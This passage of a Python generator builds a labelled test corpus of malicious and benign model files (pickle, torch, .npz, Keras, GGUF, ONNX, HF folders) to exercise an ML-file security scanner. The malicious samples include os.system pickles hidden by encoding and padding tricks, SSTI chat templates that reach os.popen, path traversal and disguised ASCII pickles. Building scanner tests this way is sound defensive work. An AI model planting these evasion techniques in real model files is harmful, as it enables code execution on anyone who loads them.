        ):
            ti = tarfile.TarInfo(name)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    U(
        "z39-targz-model",
        "containers/z39.tar.gz",
        tbuf.getvalue(),
        "tar.gz with malicious pytorch_model.bin",
        "nested-archive",
    )
    # zip with a data descriptor and the malicious pickle deflated
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", malicious_pickle("z40", 4))
    U("z40-deflated-torch", "containers/z40.pt", b.getvalue(), "torch-like zip with a deflated data.pkl", "zip")
    # zip prefixed with junk (self-extracting style): central directory still found from the end
    nbuf = io.BytesIO()
    with zipfile.ZipFile(nbuf, "w") as z:
        z.writestr("meta.npy", npy_bytes("|O", (1,), malicious_pickle("z41"), 1))
    U(
        "z41-npz-prefixed-junk",
        "containers/z41.npz",
        b"\x00" * 64 + nbuf.getvalue(),
        "64 junk bytes before an .npz (Python zipfile, hence np.load, accepts it) with an object member",
        "zip-tamper",
    )


def npy_bytes(descr: object, shape: tuple[int, ...], payload: bytes, ver: int) -> bytes:
    hdr = "{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)  # noqa: UP031
    hlen_field = 2 if ver == 1 else 4
    total = 6 + 2 + hlen_field + len(hdr) + 1
    pad = (64 - total % 64) % 64
    hdr = hdr + " " * pad + "\n"
    enc = hdr.encode("latin1" if ver < 3 else "utf8")
    lenf = struct.pack("<H", len(enc)) if ver == 1 else struct.pack("<I", len(enc))
    return b"\x93NUMPY" + bytes([ver, 0]) + lenf + enc + payload


def safetensors_bytes(hole: bool = False) -> bytes:
    hdr = {
        "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "b": {"dtype": "F32", "shape": [2], "data_offsets": [24 if hole else 16, 32 if hole else 24]},
        "__metadata__": {"format": "pt"},
    }
    h = json.dumps(hdr, separators=(",", ":")).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    body = b"\x00" * (32 if hole else 24)
    return struct.pack("<Q", len(h)) + h + body


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def _ld(field: int, data: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(data)) + data


def _vi(field: int, v: int) -> bytes:
    return _varint(field << 3) + _varint(v)


def onnx_bytes(location: str) -> bytes:
    entry = lambda k, v: _ld(13, _ld(1, k.encode()) + _ld(2, v.encode()))  # noqa: E731
    tensor = (
        _vi(1, 4)
        + _vi(2, 1)
        + _ld(8, b"w")
        + entry("location", location)
        + entry("offset", "0")
        + entry("length", "16")
        + _vi(14, 1)
    )
    graph = _ld(1, _ld(1, b"X") + _ld(1, b"w") + _ld(2, b"Y") + _ld(4, b"Add")) + _ld(2, b"g") + _ld(5, tensor)
    return _vi(1, 8) + _ld(2, b"redteam") + _ld(7, graph) + _ld(8, _ld(1, b"") + _vi(2, 17))


def gguf_bytes(template: str, name: str = "redteam") -> bytes:
    def gs(x: str) -> bytes:
        r = x.encode()
        return struct.pack("<Q", len(r)) + r

    kvs = [("general.architecture", "llama"), ("general.name", name), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kvs))
    for k, v in kvs:
        out += gs(k) + struct.pack("<I", 8) + gs(v)
    return out + b"\x00" * ((32 - len(out) % 32) % 32)


# =============================================================================================
# 4. Benign twins
# =============================================================================================
def gen_safe() -> None:
    import collections

    for proto in range(6):
        S(
            f"s0{proto}-plain-p{proto}",
            f"safe/plain_p{proto}.pkl",
            pickle.dumps({"a": [1, 2.5, "x", None, True], "b": (1, 2), "c": b"raw"}, protocol=proto),
            f"dict/list/str/int/bytes pickle protocol {proto}",
            "plain",
        )
    S(
        "s06-ordereddict-p2",
        "safe/od2.pkl",
        pickle.dumps(collections.OrderedDict(a=1, b=[1]), 2),
        "OrderedDict protocol 2",
        "plain",
    )
    S(
        "s07-ordereddict-p4",
        "safe/od4.pkl",
        pickle.dumps(collections.OrderedDict(a=1), 4),
        "OrderedDict protocol 4",
        "plain",
    )
    S(
        "s08-sets-p2",
        "safe/sets2.pkl",
        pickle.dumps([{1, 2}, frozenset({3}), bytearray(b"ab"), complex(1, 2), slice(1, 5)], 2),
        "set/frozenset/bytearray/complex/slice protocol 2",
        "plain",
    )
    S(
        "s09-sets-p5",
        "safe/sets5.pkl",
        pickle.dumps([{1, 2}, frozenset({3}), bytearray(b"ab"), complex(1, 2), slice(1, 5)], 5),
        "set/frozenset/bytearray/complex/slice protocol 5",
        "plain",
    )

    # emulated torch state_dict pickle with allow-listed rebuild calls + BINPERSID storage refs
    def tensor(key: str) -> bytes:
        pid = tup(s("storage"), sglob("torch", "FloatStorage"), s(key), s("cpu"), b"K\x04")
        return call(
            sglob("torch._utils", "_rebuild_tensor_v2"),
            pid + b"Q",
            b"K\x00",
            tup(b"K\x02", b"K\x02"),
            tup(b"K\x02", b"K\x01"),
            b"\x89",
            call(sglob("collections", "OrderedDict"), EMPTY_TUPLE),
        )

    body = (
        call(sglob("collections", "OrderedDict"), EMPTY_TUPLE)
        + MARK
        + s("fc.weight")
        + tensor("0")
        + s("fc.bias")
        + tensor("1")
        + b"u"
    )
    zb = torch_zip(
        {"data.pkl": frame4(body), "version": b"3\n", "data/0": b"\x00" * 16, "data/1": b"\x00" * 16}, "model"
    )
    S(
        "s10-emulated-state-dict",
        "safe/emulated_state_dict.pt",
        zb,
        "hand-built torch zip: OrderedDict of _rebuild_tensor_v2",
        "torch",
    )
    # numpy arrays
    S("s11-npy-f32-v1", "safe/a.npy", npy_bytes("<f4", (4,), b"\x00" * 16, 1), "float32 .npy header v1", "numpy")
    S("s12-npy-i8-v2", "safe/b.npy", npy_bytes("|i1", (3,), b"\x01\x02\x03", 2), "int8 .npy header v2", "numpy")
    S("s13-npy-v3", "safe/c.npy", npy_bytes("<f8", (1,), b"\x00" * 8, 3), "float64 .npy header v3", "numpy")
    nbuf = io.BytesIO()
    with zipfile.ZipFile(nbuf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("x.npy", npy_bytes("<f4", (2,), b"\x00" * 8, 1))
        z.writestr("y.npy", npy_bytes("<i8", (1,), b"\x00" * 8, 1))
    S("s14-npz", "safe/d.npz", nbuf.getvalue(), "compressed npz of numeric arrays", "numpy")
    S("s15-safetensors", "safe/model.safetensors", safetensors_bytes(), "valid hand-written safetensors", "safetensors")
    llama = (
        "{% for message in messages %}{% if message['role'] == 'system' %}{{ '<<SYS>>' + message['content'] + '<</SYS>>' }}"
        "{% elif message['role'] == 'user' %}{{ '[INST] ' + message['content'] | trim + ' [/INST]' }}"
        "{% else %}{{ message['content'] + eos_token }}{% endif %}{% endfor %}"
        "{% if add_generation_prompt %}{{ 'assistant' }}{% endif %}"
    )
    S("s16-gguf-llama-template", "safe/model.gguf", gguf_bytes(llama), "GGUF with an ordinary chat template", "gguf")
    chatml = (
        "{% if messages[0]['role'] != 'system' %}{{ raise_exception('first must be system') }}{% endif %}"
        "{% for m in messages %}{{ '<|im_start|>' + m['role'] + '\\n' + m['content'] + '<|im_end|>\\n' }}{% endfor %}"
        "{%- if tools %}{{ tools | tojson }}{% endif %}"
    )
    S(
        "s17-gguf-chatml-tools",
        "safe/chatml.gguf",
        gguf_bytes(chatml),
        "GGUF ChatML template with raise_exception/tojson",
        "gguf",
    )
    R.write("safe_hf/config.json", json.dumps({"model_type": "bert", "architectures": ["BertModel"], "hidden_size": 4}))
    R.write(
        "safe_hf/tokenizer.json",
        json.dumps({"version": "1.0", "model": {"type": "WordPiece", "vocab": {"[PAD]": 0, "a": 1}}}),
    )
    R.write("safe_hf/tokenizer_config.json", json.dumps({"tokenizer_class": "BertTokenizer", "chat_template": llama}))
    R.write("safe_hf/vocab.txt", "[PAD]\n[UNK]\na\nb\n")
    R.write(
        "safe_hf/README.md",
        "---\nlicense: apache-2.0\n---\n# model\n\n```python\nimport torch\ntorch.load('x.pt', weights_only=True)\n```\n",
    )
    R.write("safe_hf/model.safetensors", safetensors_bytes())
    R.write("safe_hf/generation_config.json", json.dumps({"max_new_tokens": 20}))
    R.add("s18-hf-folder", "safe_hf", "safe", "HF folder: config, tokenizer, README, safetensors", "hf")
    kcfg = {
        "class_name": "Sequential",
        "config": {
            "name": "s",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"}},
                {"class_name": "Dense", "config": {"name": "d", "units": 2, "activation": "relu"}},
            ],
        },
    }
    kbuf = io.BytesIO()
    with zipfile.ZipFile(kbuf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        z.writestr("config.json", json.dumps(kcfg))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
    S("s19-keras-dense", "safe/dense.keras", kbuf.getvalue(), ".keras with Dense layers only", "keras")
    R.write("safe_onnx/model.onnx", onnx_bytes("weights.bin"))
    R.write("safe_onnx/weights.bin", b"\x00" * 16)
    R.add("s20-onnx-external-inside", "safe_onnx", "safe", "ONNX with external data inside its folder", "onnx")
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w:gz") as t:
        for name, d in (
            ("m/config.json", b"{}"),
            ("m/model.safetensors", safetensors_bytes()),
            ("m/README.md", b"# hi\n"),
        ):
            ti = tarfile.TarInfo(name)
            ti.size = len(d)
            t.addfile(ti, io.BytesIO(d))
    S("s21-targz-safetensors", "safe/bundle.tar.gz", tbuf.getvalue(), "tar.gz of a safetensors model folder", "archive")
    # numpy-1-style ndarray pickle written by hand (numpy.core.multiarray._reconstruct)
    arr = (
        call(glob("numpy.core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(b"K\x00"), binstring("b"))
        + MARK
        + b"K\x01"
        + tup(b"K\x02")
        + call(glob("numpy", "dtype"), binunicode("f4"), b"\x89", b"\x88")
        + MARK
        + b"K\x03"
        + binunicode("<")
        + NONE
        + NONE
        + NONE
        + b"J\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00"
        + TUPLE_
        + BUILD
        + b"\x89"
        + b"C\x08"
        + b"\x00" * 8
        + b"t"
        + BUILD
    )
    S("s22-numpy1-array-pickle", "safe/np1.pkl", p2(arr), "numpy-1 style ndarray pickle (_reconstruct/dtype)", "numpy")
    S(
        "s23-json-config",
        "safe/settings.json",
        json.dumps({"pickle": "os.system", "note": "strings about pickles are text"}),
        "JSON mentioning os.system as text",
        "text",
    )
    S(
        "s24-readme",
        "safe/README.txt",
        "Load with torch.load(path, weights_only=True). Never pickle.loads untrusted data.\n",
        "plain text",
        "text",
    )
    S("s25-merges", "safe/merges.txt", "#version: 0.2\nĠ t\nh e\n", "BPE merges file", "text")
    S("s26-csv", "safe/data.csv", "a,b\n1,2\n", "csv data", "text")
    S(
        "s27-yaml",
        "safe/params.yaml",
        "lr: 0.1\nmodel: !!python/name:os.system ''\n" if False else "lr: 0.1\nepochs: 3\n",
        "yaml params",
        "text",
    )


def gen_extra() -> None:
    """Second wave: encodings, allow-list abuse, format-level tricks, and harder benign twins."""
    c = lambda cid: s(marker_cmd(cid))  # noqa: E731
    # STRING with escape sequences decodes to 'os'; UNICODE raw-unicode-escape decodes to 'system'
    body = b"S'o\\x73'\n" + b"V\\u0073ystem\n" + STACK_GLOBAL + tup(c("v30")) + REDUCE
    U(
        "v30-escaped-operands",
        "vm/v30.pkl",
        PROTO(4) + body + STOP,
        "STACK_GLOBAL operands spelled with backslash-x / backslash-u escapes",
        "encoding",
    )
    # protocol switched mid-stream: PROTO 2 then PROTO 4 makes GLOBAL resolve dotted names
    body = PROTO(2) + PROTO(4) + glob("posixpath", "os.system") + tup(binunicode(marker_cmd("v31"))) + REDUCE + STOP
    U(
        "v31-proto-switch-dotted-global",
        "vm/v31.pkl",
        body,
        "second PROTO 4 opcode enables dotted GLOBAL posixpath/os.system",
        "dotted-alias",
    )
    body = PROTO(4) + glob("ntpath", "os.system") + tup(binunicode(marker_cmd("v32"))) + REDUCE + STOP
    U(
        "v32-dotted-global-opcode",
        "vm/v32.pkl",
        body,
        "GLOBAL (not STACK_GLOBAL) with a dotted name in protocol 4",
        "dotted-alias",
    )
    # BUILD on a class object (slot state -> setattr on an allow-listed class: monkeypatching)
    body = (
        sglob("collections", "OrderedDict")
        + NONE
        + EMPTY_DICT
        + s("fromkeys")
        + sglob("builtins", "dict")
        + SETITEM
        + TUPLE2
        + BUILD
    )
    U(
        "v33-build-on-class",
        "vm/v33.pkl",
        p4(body),
        "BUILD with slot state on the OrderedDict class itself (monkeypatch)",
        "allowlist-abuse",
    )
    # huge sparse memo index
    body = (
        s("os")
        + b"r"
        + struct.pack("<I", 0xFFFFFFF0)
        + POP
        + b"j"
        + struct.pack("<I", 0xFFFFFFF0)
        + s("system")
        + STACK_GLOBAL
        + tup(c("v34"))
        + REDUCE
    )
    U("v34-long-binput-huge", "vm/v34.pkl", p4(body), "LONG_BINPUT/LONG_BINGET at index 0xFFFFFFF0", "memo")
    # joblib raw array desync: joblib reads K raw bytes after the wrapper's BUILD; a linear VM reads them as opcodes.
    payload = glob("os", "system") + tup(binunicode(marker_cmd("v35"))) + REDUCE + POP
    raw = b"B" + struct.pack("<I", len(payload))  # 5 array bytes == BINBYTES header swallowing the payload
    state = (
        EMPTY_DICT
        + MARK
        + binunicode("subclass")
        + glob("numpy", "ndarray")
        + binunicode("shape")
        + tup(b"K\x05")
        + binunicode("order")
        + binunicode("C")
        + binunicode("dtype")
        + call(glob("numpy", "dtype"), binunicode("u1"), b"\x89", b"\x88")
        + binunicode("allow_mmap")
        + b"\x89"
        + b"u"
    )
    body = (
        PROTO(2)
        + glob("joblib.numpy_pickle", "NumpyArrayWrapper")
        + EMPTY_TUPLE
        + NEWOBJ
        + state
        + BUILD
        + raw
        + payload
        + STOP
    )
    U(
        "v35-joblib-array-desync",
        "containers/v35.joblib",
        body,
        "joblib: payload after the raw array bytes, hidden from a linear VM",
        "joblib",
    )

    # ---- Keras config references
    def keras(cfg: dict, cid: str) -> None:
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w") as z:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
            z.writestr("config.json", json.dumps(cfg))
            z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 64)
        R.write(f"containers/{cid}.keras", b.getvalue())

    def dense(act: object) -> dict:
        return {
            "module": "keras.layers",
            "class_name": "Dense",
            "registered_name": None,
            "config": {
                "name": "d",
                "units": 2,
                "activation": act,
                "use_bias": True,
                "kernel_initializer": {
                    "module": "keras.initializers",
                    "class_name": "GlorotUniform",
                    "config": {"seed": None},
                    "registered_name": None,
                },
                "dtype": {
                    "module": "keras",
                    "class_name": "DTypePolicy",
                    "config": {"name": "float32"},
                    "registered_name": None,
                },
            },
        }

    def seq(*layers: dict) -> dict:
        return {
            "module": "keras",
            "class_name": "Sequential",
            "registered_name": None,
            "config": {
                "name": "s",
                "trainable": True,
                "layers": [
                    {
                        "module": "keras.layers",
                        "class_name": "InputLayer",
                        "registered_name": None,
                        "config": {"batch_shape": [None, 4], "name": "in"},
                    },
                    *layers,
                ],
            },
        }

    keras(seq(dense({"module": "os", "class_name": "function", "config": "system", "registered_name": None})), "k01")
    R.add(
        "k01-keras-module-os",
        "containers/k01.keras",
        "unsafe",
        "Keras 3 config: activation is a function reference into module os",
        "keras",
    )
    keras(
        seq(dense({"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": None})),
        "k02",
    )
    R.add(
        "k02-keras-get-file",
        "containers/k02.keras",
        "unsafe",
        "Keras 3 config: activation keras.utils.get_file (download gadget)",
        "keras",
    )
    keras(
        seq(
            {
                "module": "keras.layers",
                "class_name": "TFSMLayer",
                "registered_name": None,
                "config": {"name": "t", "filepath": "/tmp/mlsec-redteam-savedmodel", "call_endpoint": "serve"},
            }
        ),
        "k03",
    )
    R.add(
        "k03-keras-tfsmlayer",
        "containers/k03.keras",
        "unsafe",
        "TFSMLayer loading an external SavedModel path",
        "keras",
    )
    keras(
        seq(
            dense("relu"),
            dense({"module": "keras.activations", "class_name": "function", "config": "gelu", "registered_name": None}),
        ),
        "s40",
    )
    R.add(
        "s40-keras3-realistic",
        "containers/s40.keras",
        "safe",
        "realistic Keras 3 config with module keys and keras.activations.gelu",
        "keras",
    )
    # ---- HF folders
    R.write("hf_processor/config.json", json.dumps({"model_type": "llava"}))
    R.write(
        "hf_processor/processor_config.json",
        json.dumps({"auto_map": {"AutoProcessor": "processing_x.XProcessor"}, "processor_class": "XProcessor"}),
    )
    R.write("hf_processor/model.safetensors", safetensors_bytes())
    R.add("h01-hf-processor-auto-map", "hf_processor", "unsafe", "auto_map only in processor_config.json", "hf")
    R.write("hf_bundled_py/config.json", json.dumps({"model_type": "bert"}))
    R.write("hf_bundled_py/modeling_custom.py", "import os\nos.system('true')\n")
    R.write("hf_bundled_py/model.safetensors", safetensors_bytes())
    R.add(
        "h02-hf-bundled-py-no-auto-map", "hf_bundled_py", "unsafe", "bundled modeling_custom.py without auto_map", "hf"
    )
    R.write(
        "hf_remote_ref/config.json",
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "someone/other-repo--modeling_x.XModel"}}),
    )
    R.write("hf_remote_ref/model.safetensors", safetensors_bytes())
    R.add(
        "h03-hf-auto-map-other-repo",
        "hf_remote_ref",
        "unsafe",
        "auto_map pointing at code in another repo (repo--module.Class)",
        "hf",
    )
    R.write("hf_tpl/config.json", json.dumps({"model_type": "llama"}))
    R.write(
        "hf_tpl/tokenizer_config.json",
        json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.popen('true').read() }}"}),
    )
    R.write("hf_tpl/model.safetensors", safetensors_bytes())
    R.add(
        "h04-hf-chat-template-ssti",
        "hf_tpl",
        "unsafe",
        "SSTI chat template in tokenizer_config.json (transformers renders it sandboxed)",
        "hardening",
    )
    R.write("hf_tpl_file/config.json", json.dumps({"model_type": "llama"}))
    R.write(
        "hf_tpl_file/chat_template.jinja",
        "{{ ''|attr('__cla' ~ 'ss__') }}{% for m in messages %}{{ m.content }}{% endfor %}",
    )
    R.add(
        "h05-hf-chat-template-jinja-file",
        "hf_tpl_file",
        "unsafe",
        "SSTI in chat_template.jinja (transformers renders it sandboxed)",
        "hardening",
    )
    # ---- GGUF variants
    U(
        "g01-gguf-attr-concat",
        "containers/g01.gguf",
        gguf_bytes(
            "{{ (''|attr('_'~'_cl'~'ass_'~'_'))|attr('_'~'_mro_'~'_') }}{% for m in messages %}{{ m.content }}{% endfor %}"
        ),
        "GGUF SSTI hidden with |attr and ~ concatenation",
        "gguf",
    )
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, 3)

    def gs(x: str) -> bytes:
        r = x.encode()
        return struct.pack("<Q", len(r)) + r

    for k, v in (
        ("general.architecture", "llama"),
        ("tokenizer.chat_template", "{% for m in messages %}{{ m.content }}{% endfor %}"),
        ("tokenizer.chat_template.tool_use", "{{ lipsum.__globals__['os'].popen('true').read() }}"),
    ):
        out += gs(k) + struct.pack("<I", 8) + gs(v)
    U("g02-gguf-named-template", "containers/g02.gguf", out, "SSTI only in tokenizer.chat_template.tool_use", "gguf")
    qwen = (
        "{%- if tools %}{{- '<|im_start|>system\n' }}{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{%- endif %}"
        "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
        "{%- if ns.multi_step_tool and message.role == 'user' and not message.content.startswith('<tool_response>') %}"
        "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
        "{%- for message in messages %}{%- set content = message.content.split('</think>')[-1].lstrip('\n') %}"
        "{{- '<|im_start|>' + message.role + '\n' + content + '<|im_end|>\n' }}{%- endfor %}"
        "{%- if add_generation_prompt %}{{- '<|im_start|>assistant\n' }}{%- endif %}"
    )
    S(
        "s41-gguf-qwen-like",
        "safe/qwen.gguf",
        gguf_bytes(qwen),
        "GGUF Qwen-style template (namespace, split, loop.index0, tojson)",
        "gguf",
    )
    # ---- ONNX / safetensors / MLflow
    R.write("onnx_bs/model.onnx", onnx_bytes("..\\..\\..\\Windows\\win.ini"))
    R.add("o01-onnx-backslash-escape", "onnx_bs/model.onnx", "unsafe", "ONNX external data with ..\\ traversal", "onnx")
    hdr = json.dumps(
        {
            "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
        }
    ).encode()
    hdr += b" " * ((8 - len(hdr) % 8) % 8)
    U(
        "st1-overlapping-offsets",
        "containers/st1.safetensors",
        struct.pack("<Q", len(hdr)) + hdr + b"\x00" * 8,
        "two tensors sharing the same bytes",
        "safetensors-malformed",
    )
    hdr = b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},' + b"\xff\xfe" + b"}"
    U(
        "st2-header-not-utf8",
        "containers/st2.safetensors",
        struct.pack("<Q", len(hdr)) + hdr + b"\x00" * 8,
        "header is not UTF-8 JSON",
        "safetensors-malformed",
    )
    hdr = json.dumps({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]}}).encode()
    U(
        "st3-shape-size-mismatch",
        "containers/st3.safetensors",
        struct.pack("<Q", len(hdr)) + hdr + b"\x00" * 8,
        "shape says 16 bytes, offsets say 8",
        "safetensors-malformed",
    )
    hdr = json.dumps(
        {"__metadata__": {"format": "pt"}, "e": {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}}
    ).encode()
    hdr += b" " * ((8 - len(hdr) % 8) % 8)
    S(
        "s42-st-empty-tensor",
        "safe/empty.safetensors",
        struct.pack("<Q", len(hdr)) + hdr,
        "safetensors with one zero-size tensor",
        "safetensors",
    )
    S(
        "s43-npy-structured",
        "safe/structured.npy",
        npy_bytes([("a", "<f4"), ("b", "<i4")], (1,), b"\x00" * 8, 1),
        "structured-dtype .npy",
        "numpy",
    )
    R.write(
        "mlflow_sklearn/MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
        "    model_path: model.pkl\n    python_version: 3.11.9\n  sklearn:\n    pickled_model: model.pkl\n"
        "    serialization_format: cloudpickle\n    sklearn_version: 1.5.2\nmlflow_version: 2.16.0\n",
    )
    R.write("mlflow_sklearn/model.pkl", benign_pickle(4))
    R.add(
        "m01-mlflow-sklearn-cloudpickle",
        "mlflow_sklearn",
        "unsafe",
        "MLflow sklearn flavor serialization_format: cloudpickle",
        "mlflow",
    )
    R.write(
        "mlflow_hf/MLmodel",
        "artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.transformers\n"
        "    python_version: 3.11.9\n  transformers:\n    task: text-classification\n    framework: pt\n"
        "    source_model_name: bert-base-uncased\n    source_model_revision: 86b5e0934494bd15c9632b12f734a8a67f723594\n"
        "mlflow_version: 2.16.0\n",
    )
    R.write("mlflow_hf/model/config.json", json.dumps({"model_type": "bert"}))
    R.write("mlflow_hf/model/model.safetensors", safetensors_bytes())
    R.add(
        "s44-mlflow-transformers", "mlflow_hf", "safe", "MLflow transformers flavor with safetensors weights", "mlflow"
    )


def gen_bounds() -> None:
    """Third wave: container variants and resource bounds (fail closed, but do not cry wolf on big benign files)."""

    def npz_with(member_bytes: bytes, compression: int) -> bytes:
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", compression) as z:
            z.writestr("w.npy", npy_bytes("<f4", (2,), b"\x00" * 8, 1))
            z.writestr("obj.npy", member_bytes)
        return b.getvalue()

    U(
        "b01-npz-lzma-member",
        "bounds/b01.npz",
        npz_with(npy_bytes("|O", (1,), malicious_pickle("b01"), 1), zipfile.ZIP_LZMA),
        ".npz member compressed with LZMA",
        "zip",
    )
    U(
        "b02-npz-bzip2-member",
        "bounds/b02.npz",
        npz_with(npy_bytes("|O", (1,), malicious_pickle("b02"), 1), zipfile.ZIP_BZIP2),
        ".npz member compressed with bzip2",
        "zip",
    )
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z, z.open("archive/data.pkl", "w", force_zip64=True) as f:
        f.write(malicious_pickle("b03"))
    U("b03-zip64-member", "bounds/b03.pt", b.getvalue(), "torch zip with a zip64 data.pkl entry", "zip")
    import warnings

    for cid, order in (
        ("b04-dup-name-bad-last", (benign_pickle(2), malicious_pickle("b04"))),
        ("b05-dup-name-bad-first", (malicious_pickle("b05"), benign_pickle(2))),
    ):
        b = io.BytesIO()
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            with zipfile.ZipFile(b, "w") as z:
                z.writestr("archive/data.pkl", order[0])
                z.writestr("archive/data.pkl", order[1])
        U(cid, f"bounds/{cid}.pt", b.getvalue(), "two central-directory entries named archive/data.pkl", "zip-tamper")
    import py7zr

    p = R.path("bounds/b06.7z")
    with py7zr.SevenZipFile(p, "w", password="redteam") as a:
        a.writestr(malicious_pickle("b06"), "model.pkl")
    R.add(
        "b06-encrypted-7z",
        "bounds/b06.7z",
        "unsafe",
        "password-protected 7z holding a pickle (cannot be verified: fail closed)",
        "nested-archive",
    )
    # a long pickle: 1.5M opcodes of list data, then the payload
    parts = [PROTO(4), EMPTY_LIST]
    for _ in range(1500):
        parts.append(MARK + b"K\x01" * 1000 + b"e")
    parts.append(call(sglob("os", "system"), s(marker_cmd("b07"))) + b"a" + STOP)
    U(
        "b07-payload-after-1.5M-opcodes",
        "bounds/b07.pkl",
        b"".join(parts),
        "os.system after 1.5M benign opcodes",
        "bounds",
    )
    # deep MARK nesting before the payload
    U(
        "b08-deep-marks",
        "bounds/b08.pkl",
        PROTO(4) + MARK * 200000 + call(sglob("os", "system"), s(marker_cmd("b08"))) + STOP,
        "200k unclosed MARKs then payload",
        "bounds",
    )
    U(
        "b09-npy-descr-O",
        "bounds/b09.npy",
        npy_bytes("O", (1,), malicious_pickle("b09"), 1),
        ".npy object array with descr 'O' (not '|O')",
        "npy",
    )
    U(
        "b10-npy-struct-object-field",
        "bounds/b10.npy",
        npy_bytes([("a", "<f4"), ("b", "O")], (1,), malicious_pickle("b10"), 1),
        ".npy structured dtype with an object field",
        "npy",
    )
    # decompression / opcode bound: 50 MB of NONE/POP then payload, deflated inside a torch zip
    big = PROTO(2) + b"N0" * 25_000_000 + call(glob("os", "system"), binunicode(marker_cmd("b11"))) + STOP
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", big)
        z.writestr("archive/version", b"3\n")
    U(
        "b11-50M-opcodes-deflated",
        "bounds/b11.pt",
        b.getvalue(),
        "50M NONE/POP opcodes then payload (tiny when deflated)",
        "bounds",
    )
    # benign but big: a 600k-entry vocabulary dict (a realistic tokenizer pickle)
    vocab = {f"tok{i:07d}": i for i in range(600_000)}
    # valid safetensors whose 8-byte header length starts with 0x80 0x0N (looks like a pickle PROTO opcode)
    for cid, hlen in (
        ("s54-st-hlen-0x80", 0x80),
        ("s55-st-hlen-0x180", 0x180),
        ("s51-st-hlen-0x280", 0x280),
        ("s52-st-hlen-0x480", 0x480),
        ("s53-st-hlen-0x580", 0x580),
    ):
        hdr = json.dumps(
            {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}},
            separators=(",", ":"),
        ).encode()
        hdr += b" " * (hlen - len(hdr))
        S(
            cid,
            f"bounds/{cid}.safetensors",
            struct.pack("<Q", hlen) + hdr + b"\x00" * 16,
            f"valid safetensors, header length {hlen:#x} (first bytes 80 0{hlen >> 8})",
            "safetensors",
        )
    # protocol-0 pickles are plain ASCII text: a sniffer that routes "text" away from the pickle VM misses them
    txt = lambda cid: b"cos\nsystem\n(V" + marker_cmd(cid).encode() + b"\ntR."  # noqa: E731
    for cid, name, data in (
        ("b12-ascii-pickle-txt", "notes.txt", txt("b12")),
        ("b13-ascii-pickle-json", "config.json", txt("b13")),
        ("b14-ascii-pickle-md", "README.md", txt("b14")),
        ("b15-ascii-pickle-py", "setup.py", txt("b15")),
        ("b16-ascii-int-prefix", "vocab", b"I1\n0" + txt("b16")),
        ("b17-ascii-mark-prefix", "merges.txt", b"(lp0\n0" + txt("b17")),
    ):
        U(cid, f"bounds/{cid}/{name}", data, f"protocol-0 ASCII pickle named {name}", "extension-lie")
    # benign text whose first byte is a pickle opcode (c=GLOBAL, (=MARK, I=INT)
    for cid, name, text in (
        ("s56-labels-c", "labels.txt", "cat\ndog\nbird\nfish\n"),
        ("s57-csv-c", "data.csv", "class,label\ncat,0\ndog,1\n"),
        ("s58-yaml-c", "params.yaml", "callbacks:\n  - early_stopping\nepochs: 3\n"),
        ("s59-anchors-mark", "anchors.txt", "(0.5, 0.25)\n(1.0, 2.0)\n"),
        ("s60-classes-I", "classes.txt", "Iris-setosa\nIris-versicolor\n"),
    ):
        S(cid, f"bounds/{cid}/{name}", text, f"benign text starting with a pickle opcode byte ({name})", "text")
    S(
        "s50-big-vocab-pickle",
        "bounds/vocab.pkl",
        pickle.dumps(vocab, protocol=4),
        "600k-entry str->int vocab pickle (~14 MB)",
        "plain",
    )


TUPLE_ = b"t"


TORCH_SCRIPT = r"""
import sys, collections, random, pickle, io, os
import torch, numpy as np
out = sys.argv[1]
os.makedirs(out, exist_ok=True)
torch.manual_seed(0)
m = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
torch.save(m.state_dict(), f"{out}/t01_state_dict.pt")
torch.save(m.state_dict(), f"{out}/t02_legacy.pt", _use_new_zipfile_serialization=False)
opt = torch.optim.Adam(m.parameters())
